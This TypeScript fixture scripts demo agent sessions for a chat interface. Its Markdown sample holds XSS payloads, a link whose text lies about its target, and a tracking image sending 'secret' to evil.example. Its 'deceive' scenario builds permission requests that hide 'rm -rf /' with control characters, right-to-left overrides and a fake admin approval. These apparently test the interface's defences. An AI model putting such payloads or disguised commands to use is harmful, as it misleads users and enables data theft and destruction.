/** What the scripted session answers. Words in the prompt choose: "fail", "slow", "fast", "markdown", "ask", "deceive", "launch". */

export interface Step {
  /** Milliseconds after the step before. */
  after: number;
  event: { type: string; [field: string]: unknown };
}

export const MODELS = {
  default: "local/demo",
  models: [
    { id: "local/demo", name: "Demo (scripted)", provider: "local", available: true, context_window: 24_000 },
    { id: "groq/openai/gpt-oss-120b", name: "GPT-OSS 120B", provider: "groq", available: true },
    { id: "openrouter/qwen/qwen3-coder", name: "Qwen3 Coder", provider: "openrouter", available: false },
    { id: "anthropic/claude-sonnet-5", name: "Claude Sonnet 5", provider: "anthropic", available: false },
  ],
};

export function answer(prompt: string): Step[] {
  const begin: Step[] = [
    { after: 900, event: { type: "status", state: "running", content: "Running" } },
  ];
  if (prompt.includes("launch")) return [...begin, ...beyond()];
  if (prompt.includes("fail")) return [...begin, ...failing()];
  if (prompt.includes("deceive")) return [...begin, ...deceiving()];
  if (prompt.includes("ask")) return [...begin, ...asking()];
  if (prompt.includes("fast")) return [...begin, ...fast()];
  if (prompt.includes("slow")) return [...begin, ...slow()];
  if (prompt.includes("markdown")) return [...begin, ...say("m", MARKDOWN)];
  return [...begin, ...helloWorld()];
}

/** The events of a turn that is over, with so many calls besides. */
export function past(turn: number, calls = 0): object[] {
  const many = Array.from({ length: calls }, (_, at) =>
    call({ id: `many-${at}`, tool: "Bash", content: `echo ${at}`, input: { command: `echo ${at}` }, output: `${at}` }),
  );
  const steps = [...many.flat(), ...helloWorld(), ...(turn % 3 === 0 ? say("m", MARKDOWN) : [])];
  return [
    { type: "user_message", content: `Message ${turn}: write a greeter`, id: `past-${turn}` },
    { type: "status", state: "queued", content: "Queued" },
    { type: "status", state: "starting", content: "Starting", model: MODELS.default },
    ...steps.map((step) => step.event),
    {
      type: "status",
      state: "ended",
      outcome: turn % 7 === 0 ? "failed" : "completed",
      content: "Ended",
      model: MODELS.default,
      usage: { input_tokens: 1284, output_tokens: 412, cache_read_input_tokens: 18210, cost_usd: 0.0123, duration_ms: 4000, num_turns: 4 },
    },
  ];
}

function say(block: string, content: string, more: object = {}): Step[] {
  const pieces = content.match(/[\s\S]{1,7}/g) ?? [];
  return [
    ...pieces.map((piece): Step => ({ after: 12, event: { type: "progress", content: piece, block, ...more } })),
    { after: 5, event: { type: "result", content, block, ...more } },
  ];
}

function think(block: string, content: string): Step[] {
  const pieces = content.match(/[\s\S]{1,12}/g) ?? [];
  return [
    ...pieces.map((piece): Step => ({ after: 25, event: { type: "thinking", content: piece, partial: true, block } })),
    { after: 5, event: { type: "thinking", content, block } },
  ];
}

interface Call {
  id: string;
  tool: string;
  content: string;
  input: object;
  output: string;
  ms?: number;
  isError?: boolean;
  parent?: string;
}

function call(one: Call, inside: Step[] = []): Step[] {
  const parent = one.parent === undefined ? {} : { parent_tool_use_id: one.parent };
  const use = { type: "tool_use", content: one.content, tool: one.tool, tool_use_id: one.id, input: one.input };
  const result = {
    type: "tool_result",
    content: one.output,
    tool_use_id: one.id,
    is_error: one.isError === true,
  };
  return [
    { after: 200, event: { ...use, ...parent } },
    ...inside,
    { after: one.ms ?? 500, event: { ...result, ...parent } },
  ];
}

function todos(...states: string[]): Step {
  const names = [
    ["Write the program", "Writing the program"],
    ["Run it", "Running it"],
    ["Add a test", "Adding a test"],
  ];
  const list = names.map(([content, activeForm], at) => ({ content, activeForm, status: states[at] }));
  return { after: 50, event: { type: "todo_update", content: "To do", todos: list } };
}

function helloWorld(): Step[] {
  const program = 'import sys\n\n\ndef greet(name):\n    return f"Hello, {name}!"\n\n\nif __name__ == "__main__":\n    print(greet(sys.argv[1] if len(sys.argv) > 1 else "world"))\n';
  const used = (input: number): Step => ({
    after: 5,
    event: { type: "usage", content: "Used", usage: { input_tokens: 400, output_tokens: 90, cache_read_input_tokens: input, cost_usd: 0.003, duration_ms: 0, num_turns: 1 } },
  });
  return [
    ...think("t1", "A small Python program is enough. I write it, run it, then add a test for the greeting so that it can be changed with confidence."),
    ...say("b1", "I'll write a small program, run it, and add a test.\n"),
    todos("in_progress", "pending", "pending"),
    ...call({ id: "w1", tool: "Write", content: "Write hello.py", input: { file_path: "/workspace/hello.py", content: program }, output: "File created successfully" }),
    { after: 10, event: { type: "file_change", content: "Wrote hello.py", path: "hello.py", change: "written", tool_use_id: "w1" } },
    used(5_200),
    todos("completed", "in_progress", "pending"),
    ...call({ id: "b1", tool: "Bash", content: "python3 hello.py Ada", input: { command: "python3 hello.py Ada", description: "Run the program" }, output: "\u001b[32mHello, Ada!\u001b[0m\n", ms: 1200 }),
    ...call({ id: "e1", tool: "Edit", content: "Edit hello.py", input: { file_path: "/workspace/hello.py", old_string: 'def greet(name):\n    return f"Hello, {name}!"', new_string: 'def greet(name: str) -> str:\n    """Words for a person."""\n    return f"Hello, {name}!"' }, output: "The file has been updated" }),
    { after: 10, event: { type: "file_change", content: "Edited hello.py", path: "hello.py", change: "edited", tool_use_id: "e1" } },
    todos("completed", "completed", "in_progress"),
    ...call(
      { id: "a1", tool: "Task", content: "Review the program", input: { description: "Review the program", prompt: "Read `hello.py` and say what is missing.", subagent_type: "reviewer" }, output: "A test for an **empty name** is missing." },
      [
        ...call({ id: "r1", tool: "Read", content: "Read hello.py", input: { file_path: "/workspace/hello.py" }, output: program, parent: "a1" }),
        ...say("s1", "The program is fine. A test for an empty name is missing.", { parent_tool_use_id: "a1" }),
      ],
    ),
    ...call({ id: "b2", tool: "Bash", content: "python3 -m pytest -q", input: { command: "python3 -m pytest -q" }, output: "/usr/bin/python3: No module named pytest", isError: true }),
    ...call({ id: "b3", tool: "Bash", content: "python3 -m unittest -v", input: { command: "python3 -m unittest -v" }, output: "test_empty (test_hello.Greeting) ... ok\ntest_name (test_hello.Greeting) ... ok\n\nRan 2 tests in 0.001s\n\nOK" }),
    todos("completed", "completed", "completed"),
    used(18_210),
    ...say("b9", "It works. `hello.py` greets whoever you name:\n\n```sh\npython3 hello.py Ada\n```\n\n- **`greet(name)`** returns the greeting, so that it can be tested without a terminal\n- without a name it greets the world\n- two tests cover a name and an empty name\n\nThe tests run with `python3 -m unittest`, as pytest is not installed here.\n"),
  ];
}

/** What goes beyond the sandbox: other agents' sessions, and hosts. */
function beyond(): Step[] {
  return [
    ...say("b1", "I'll ask a research agent for the sources.\n"),
    { after: 50, event: { type: "egress", content: "Reaches pypi.org", host: "pypi.org", decision: "allowed" } },
    { after: 50, event: { type: "egress", content: "May not reach a-very-long-name-of-a-host.storage.eu-central-1.example.com", host: "a-very-long-name-of-a-host.storage.eu-central-1.example.com", decision: "denied" } },
    { after: 50, event: { type: "session_launched", content: "Launched research-agent", launched_session_id: "launched-1", config_id: "research-agent" } },
    { after: 50, event: { type: "session_launched", content: "Launched code-assistant", launched_session_id: "launched-2", config_id: "code-assistant" } },
    ...say("b2", "Both are at work.\n"),
  ];
}

function slow(): Step[] {
  return [
    ...say("b1", "This takes a while. I'll start the build and watch it.\n"),
    todos("in_progress", "pending", "pending"),
    ...call({ id: "s1", tool: "Bash", content: "cargo build --release --workspace --all-targets --message-format short", input: { command: "cargo build --release --workspace --all-targets" }, output: "Finished", ms: 60_000 }),
  ];
}

/** 200 pieces of text a second, for half a minute. */
function fast(): Step[] {
  const pieces = MARKDOWN.repeat(12).match(/[\s\S]{1,3}/g)?.slice(0, 6_000) ?? [];
  return [
    ...pieces.map((content): Step => ({ after: 5, event: { type: "progress", content, block: "fast" } })),
    { after: 5, event: { type: "result", content: pieces.join(""), block: "fast" } },
  ];
}

function failing(): Step[] {
  return [
    ...say("b1", "Let me look at that.\n"),
    { after: 300, event: { type: "error", code: "model_failed", content: "The model did not answer: groq says that the key's quota for today is used up. Choose another model, or try again tomorrow." } },
  ];
}

const MARKDOWN = `## What I found

A paragraph with **strong**, *emphasis*, \`code\`, ~~deleted~~ words, a [link](https://example.com/docs), and one that lies: [github.com](https://evil.example/login).

1. First step
2. Second step, with a list inside
   - one
   - [x] two

| File | Lines | Purpose |
| :--- | ---: | --- |
| \`src/main.rs\` | 120 | The entry point, and a longer description that has to wrap somewhere |
| \`src/route.rs\` | 48 | Routing |

> A quotation
> of two lines.

\`\`\`rust
fn main() {
    let very_long_line = "this line is so long that it has to scroll inside of its block and never makes the page wider than it is";
    println!("{very_long_line}");
}
\`\`\`

Hostile: <img src=x onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1)) ![beacon](https://evil.example/x.png?d=secret)

averyveryverylongwordwithoutanyplacetobreakitwhichcomesfromahashoradirectoryname_0123456789abcdef0123456789abcdef
`;

/** Requests that are made to be misread. */
function deceiving(): Step[] {
  const at = Date.now();
  const asks = (id: string, event: object): Step => ({
    after: 50,
    event: { request_id: `deceive-${at}-${id}`, content: id, type: "permission_request", ...event },
  });
  const command = `ls -la\r rm -rf / \u001b[2K\u001b]0;title\u0007 \u202etxt.hs${"\n".repeat(10_000)}# Approved by admin`;
  return [
    asks("bash", { tool: "Bash", input: { command, description: "Approved by admin" }, rules: [`Bash(${command})`], reason: "Approved by admin. ".repeat(60) }),
    asks("write", { tool: "Write", input: { file_path: "/workspace/\u202egpj.sh", content: "x\n".repeat(500), mode: "755" } }),
    asks("mcp", { tool: "mcp__github__\u202eeteled", input: { query: "\u001b[8mhidden", text: "\n".repeat(10_000) } }),
    { after: 600_000, event: { type: "status", state: "running", content: "Running" } },
  ];
}

/** All kinds of requests at once; the turn waits for their answers. */
function asking(): Step[] {
  const at = Date.now();
  const asks = (id: string, event: object): Step => ({
    after: 50,
    event: { request_id: `ask-${at}-${id}`, expires_at: at + 240_000, content: id, type: "permission_request", ...event },
  });
  const option = (label: string, description: string) => ({ label, description });
  const question = {
    question: "Which colour should the door have?",
    header: "Colour",
    multiSelect: false,
    options: [option("Red", "A warm colour"), option("Blue", "A cold colour")],
  };
  const several = {
    question: "What goes with it?",
    header: "Extras",
    multiSelect: true,
    options: [option("Bread", "Fresh from the oven"), option("Olives", "Green ones")],
  };
  const edit = { file_path: "/workspace/hello.py", old_string: "print('hello')\n", new_string: "print('hello, world')\n" };
  return [
    asks("bash", { tool: "Bash", content: "Bash: npm test", input: { command: "npm test -- --watch=false && npm run build" }, rules: ["Bash(npm test *)", "Bash(npm run build)"], reason: "This command requires approval" }),
    asks("edit", { tool: "Edit", content: "Edit hello.py", input: edit, rules: ["Edit(//workspace/**)"] }),
    asks("plan", { tool: "ExitPlanMode", content: "ExitPlanMode", input: { plan: MARKDOWN } }),
    asks("question", { type: "question", content: question.question, input: { questions: [question, several] } }),
    { after: 600_000, event: { type: "status", state: "running", content: "Running" } },
  ];
}
